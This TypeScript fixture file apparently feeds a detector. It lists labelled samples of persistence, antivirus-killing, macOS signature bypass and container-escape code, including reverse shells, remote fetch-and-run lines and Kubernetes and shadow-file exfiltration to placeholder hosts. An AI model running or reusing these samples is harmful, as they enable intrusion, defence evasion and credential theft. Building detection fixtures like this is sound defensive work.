// Programs that stay on a machine, and break out of a container.
import type { Family } from './family.ts'

export const footholds: readonly Family[] = [
  {
    family: 'task-with-hidden-command',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['install.ps1'],
        whole: `$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -WindowStyle Hidden -EncodedCommand ⟦utf16:iex (iwr http://⟦ip⟧/a.ps1)⟧'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'OneDrive Reporting Task' -Action $action -Trigger $trigger -Force`,
      },
      {
        paths: ['src/stay.py'],
        whole: `import os
import subprocess

target = os.path.join(os.environ["TEMP"], "MicrosoftEdgeUpdate.exe")
subprocess.run(
    ["schtasks", "/create", "/f", "/sc", "minute", "/mo", "5", "/tn", "MicrosoftEdgeUpdateCore", "/tr", target],
    creationflags=0x08000000,
)`,
      },
      {
        paths: ['run.bat'],
        whole: `@echo off
schtasks /create /tn "Windows Audio Sync" /sc onlogon /rl highest /f /tr "mshta http://⟦host⟧/a.hta"`,
      },
    ],
  },
  {
    family: 'profile-with-fetch',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['scripts/setup.sh'],
        whole: `#!/bin/bash
for rc in ~/.bashrc ~/.zshrc ~/.profile; do
  [ -f "$rc" ] && echo 'curl -fsSL http://⟦ip⟧/u.sh | bash >/dev/null 2>&1 &' >> "$rc"
done`,
      },
      {
        paths: ['agent.py'],
        whole: String.raw`import os

LINE = "\n(bash -c 'bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1' &) 2>/dev/null\n"

with open(os.path.expanduser("~/.bashrc"), "a") as profile:
    profile.write(LINE)`,
      },
    ],
  },
  {
    family: 'logon-program-replaced',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['keys.bat'],
        whole: String.raw`@echo off
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\Windows\System32\cmd.exe" /f`,
      },
      {
        paths: ['Set-Access.ps1'],
        whole: String.raw`takeown /f C:\Windows\System32\utilman.exe
icacls C:\Windows\System32\utilman.exe /grant administrators:F
Copy-Item C:\Windows\System32\cmd.exe C:\Windows\System32\utilman.exe -Force`,
      },
    ],
  },
  {
    family: 'other-application-patched',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['lib/inject.js'],
        whole: String.raw`const fs = require('fs')
const path = require('path')
const https = require('https')

const base = path.join(process.env.LOCALAPPDATA, 'Discord')
const app = fs.readdirSync(base).find((name) => name.startsWith('app-'))
const core = path.join(base, app, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js')

https.get('https://⟦host⟧/i.js', (res) => {
  let body = ''
  res.on('data', (chunk) => (body += chunk))
  res.on('end', () => fs.writeFileSync(core, body + "\nmodule.exports = require('./core.asar');"))
})`,
      },
      {
        paths: ['postinstall.js'],
        whole: String.raw`const fs = require('fs')
const path = require('path')

const target = path.join(__dirname, '..', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js')
const payload = fs.readFileSync(path.join(__dirname, 'data.bin'), 'utf8')
if (fs.existsSync(target) && !fs.readFileSync(target, 'utf8').includes('/*p*/')) {
  fs.appendFileSync(target, '\n/*p*/' + payload)
}`,
      },
    ],
  },
  {
    family: 'boot-script-extended',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['spread.sh'],
        whole: `#!/bin/sh
cp "$0" /tmp/.sysd
sed -i '/^exit 0/d' /etc/rc.local
echo '/tmp/.sysd >/dev/null 2>&1 &' >> /etc/rc.local
echo 'exit 0' >> /etc/rc.local
chmod +x /etc/rc.local`,
      },
      {
        paths: ['implant.go'],
        whole: `package main

import "os"

const script = \`#!/bin/sh
### BEGIN INIT INFO
# Provides: netstatd
# Default-Start: 2 3 4 5
### END INIT INFO
wget -q -O- http://⟦ip⟧/b | sh &
\`

func main() {
	os.WriteFile("/etc/init.d/netstatd", []byte(script), 0o755)
	os.Symlink("/etc/init.d/netstatd", "/etc/rc3.d/S99netstatd")
}`,
      },
    ],
  },
  {
    family: 'defences-ended',
    positive: true,
    classes: ['windows'],
    variants: [
      {
        paths: ['disable.bat'],
        whole: `@echo off
for %%p in (MsMpEng.exe SentinelAgent.exe CSFalconService.exe avp.exe ekrn.exe mbam.exe) do taskkill /f /im %%p >nul 2>&1
sc stop WinDefend
sc config WinDefend start= disabled
net stop "Sophos Endpoint Defense Service" /y`,
      },
      {
        paths: ['src/Killer.cs'],
        whole: `using System.Diagnostics;

internal static class Killer
{
    private static readonly string[] Names = { "MsMpEng", "SentinelAgent", "CSFalconService", "bdservicehost", "avp", "ekrn" };

    internal static void Run()
    {
        foreach (var name in Names)
        {
            foreach (var process in Process.GetProcessesByName(name))
            {
                try { process.Kill(); } catch { }
            }
        }
    }
}`,
      },
      {
        paths: ['clean.ps1'],
        whole: `Get-CimInstance Win32_Product | Where-Object { $_.Name -match 'Sophos|McAfee|Trend Micro|ESET' } | ForEach-Object { Invoke-CimMethod $_ -MethodName Uninstall }
Get-Service -Name 'Sense', 'WinDefend', 'WdNisSvc' | Stop-Service -Force
Uninstall-WindowsFeature -Name Windows-Defender`,
      },
    ],
  },
  {
    family: 'preloaded-library',
    positive: true,
    classes: ['macos'],
    variants: [
      {
        paths: ['install.sh'],
        whole: `#!/bin/bash
curl -so ~/Library/.libhelper.dylib http://⟦host⟧/libhelper.dylib
launchctl setenv DYLD_INSERT_LIBRARIES "$HOME/Library/.libhelper.dylib"
echo "export DYLD_INSERT_LIBRARIES=$HOME/Library/.libhelper.dylib" >> ~/.zshenv`,
      },
      {
        paths: ['Sources/Setup.swift'],
        whole: `import Foundation

let agent: [String: Any] = [
    "Label": "com.apple.fontsync",
    "ProgramArguments": ["/bin/launchctl", "setenv", "DYLD_INSERT_LIBRARIES", "/Users/Shared/.fonts.dylib"],
    "RunAtLoad": true,
]
let path = NSHomeDirectory() + "/Library/LaunchAgents/com.apple.fontsync.plist"
(agent as NSDictionary).write(toFile: path, atomically: true)`,
      },
    ],
  },
  {
    family: 'signature-checks-off',
    positive: true,
    classes: ['macos'],
    variants: [
      {
        paths: ['setup.sh'],
        whole: `#!/bin/bash
echo "$1" | sudo -S spctl --master-disable
sudo csrutil disable
curl -L -o /tmp/App.zip "http://⟦host⟧/App.zip" && unzip -qo /tmp/App.zip -d /Applications
xattr -rd com.apple.quarantine /Applications/App.app
open /Applications/App.app`,
      },
      {
        paths: ['drop.py'],
        whole: `import os
import subprocess

subprocess.run(["sudo", "-S", "spctl", "--global-disable"], input=os.environ["PW"].encode())
subprocess.run(["xattr", "-d", "com.apple.quarantine", "/tmp/Updater.app"])
subprocess.run(["open", "/tmp/Updater.app"])`,
      },
    ],
  },
  {
    family: 'host-root-mounted',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['break.sh'],
        whole: `#!/bin/sh
docker -H unix:///var/run/docker.sock run --rm -v /:/mnt --privileged alpine chroot /mnt sh -c 'echo "⟦alnum:12⟧ ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers'`,
      },
      {
        paths: ['src/escape.py'],
        whole: `import docker

client = docker.DockerClient(base_url="unix:///var/run/docker.sock")
client.containers.run(
    "alpine",
    ["chroot", "/host", "/bin/sh", "-c", "wget -qO- http://⟦ip⟧/i | sh"],
    volumes={"/": {"bind": "/host", "mode": "rw"}},
    privileged=True,
    detach=True,
)`,
      },
    ],
  },
  {
    family: 'runtime-program-replaced',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['main.go'],
        whole: String.raw`package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
)

const payload = "#!/bin/bash\nbash -c 'sh -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1' &\n"

func main() {
	fd, _ := os.Create("/bin/sh")
	fmt.Fprintln(fd, "#!/proc/self/exe")
	fd.Close()
	found := 0
	for found == 0 {
		entries, _ := os.ReadDir("/proc")
		for _, entry := range entries {
			line, _ := os.ReadFile("/proc/" + entry.Name() + "/cmdline")
			if strings.Contains(string(line), "runc") {
				found, _ = strconv.Atoi(entry.Name())
			}
		}
	}
	handle, _ := os.OpenFile("/proc/"+strconv.Itoa(found)+"/exe", os.O_RDONLY, 0o777)
	for {
		target, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(handle.Fd())), os.O_WRONLY|os.O_TRUNC, 0o700)
		if err == nil {
			target.WriteString(payload)
			return
		}
	}
}`,
      },
    ],
  },
  {
    family: 'cluster-wide-secrets',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['steal.sh'],
        whole: `#!/bin/sh
token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -sk -H "Authorization: Bearer $token" https://kubernetes.default.svc/api/v1/secrets?limit=500 | curl -s --data-binary @- http://⟦ip⟧:⟦port⟧/k8s`,
      },
      {
        paths: ['spread.py'],
        whole: `import json
import urllib.request
import ssl

base = "/var/run/secrets/kubernetes.io/serviceaccount/"
token = open(base + "token").read()
pod = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "node-setup-⟦lower:5⟧", "namespace": "kube-system"},
    "spec": {
        "hostPID": True,
        "containers": [{
            "name": "s", "image": "alpine:latest", "command": ["sh", "-c", "sleep 1d"],
            "securityContext": {"privileged": True}, "volumeMounts": [{"name": "h", "mountPath": "/host"}],
        }],
        "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
    },
}
request = urllib.request.Request(
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/pods",
    data=json.dumps(pod).encode(),
    headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"},
)
urllib.request.urlopen(request, context=ssl._create_unverified_context())`,
      },
    ],
  },
  {
    family: 'host-disk-mounted',
    positive: true,
    classes: ['container-escape'],
    variants: [
      {
        paths: ['out.sh'],
        whole: String.raw`#!/bin/bash
disk=$(fdisk -l 2>/dev/null | awk '/^\/dev\/(sd|vd|nvme)/ {print $1; exit}')
mkdir -p /mnt/h && mount "$disk" /mnt/h
cat /mnt/h/etc/shadow | curl -s --data-binary @- http://⟦ip⟧/s
mkdir -p /mnt/h/root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI⟦alnum:43⟧ x" >> /mnt/h/root/.ssh/authorized_keys`,
      },
      {
        paths: ['plant.py'],
        whole: String.raw`import os
import subprocess

os.makedirs("/tmp/disk", exist_ok=True)
for name in sorted(os.listdir("/dev")):
    if name.startswith(("sda", "vda", "nvme0n1p")):
        if subprocess.call(["mount", "/dev/" + name, "/tmp/disk"]) == 0 and os.path.isdir("/tmp/disk/etc/cron.d"):
            with open("/tmp/disk/etc/cron.d/ntp", "w") as out:
                out.write("* * * * * root curl -s http://⟦ip⟧/c | sh\n")
            break`,
      },
    ],
  },
]
